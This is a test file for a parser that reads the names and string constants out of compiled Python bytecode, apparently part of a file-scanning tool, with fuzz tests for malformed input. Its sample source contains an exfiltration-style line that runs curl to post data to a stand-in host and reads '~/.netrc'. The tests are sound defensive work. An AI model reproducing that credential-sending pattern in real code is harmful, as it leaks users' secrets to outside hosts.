"""Compiled Python, read by its names and constants."""

from __future__ import annotations

import py_compile
import struct

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pinfold.formats.compiled import code_of, is_compiled

SOURCE = """
import os
LIST = ("one", "two")
def send(path):
    data = open(path).read()
    return os.system("curl -d @- https://a.example"), {"key": "value"}, 10**30, 1.5, frozenset({"x", "y"})
class Thing:
    def method(self): return send("~/.netrc")
"""


@pytest.fixture
def compiled(tmp_path):
    path = tmp_path / "a.py"
    path.write_text(SOURCE)
    return (tmp_path / "a.pyc", py_compile.compile(str(path), cfile=str(tmp_path / "a.pyc")))[0].read_bytes()


def test_names_and_texts_of_each_function(compiled):
    assert is_compiled(compiled)
    codes, trouble = code_of(compiled)
    assert trouble == ""
    found = {code.name: code for code in codes}
    assert {"open", "read", "os", "system"} <= {*found["send"].names}
    assert "curl -d @- https://a.example" in found["send"].texts
    assert "~/.netrc" in found["method"].texts
    assert {"one", "two"} <= {*found["<module>"].texts}


def test_what_is_cut_short_says_so(compiled):
    assert code_of(compiled[:-20])[1].startswith("compiled Python: ")


def test_values_within_values_end():
    deep = struct.pack("<HHIII", 3495, 0x0A0D, 0, 0, 0) + b"\x29\x01" * 5_000
    assert "within one another" in code_of(deep)[1]


@given(st.binary(max_size=400))
def test_any_bytes_are_read(data):
    code_of(data)
    code_of(struct.pack("<HHIII", 3495, 0x0A0D, 0, 0, 0) + data)
    code_of(struct.pack("<HHIII", 3413, 0x0A0D, 0, 0, 0) + b"\xe3" + data)
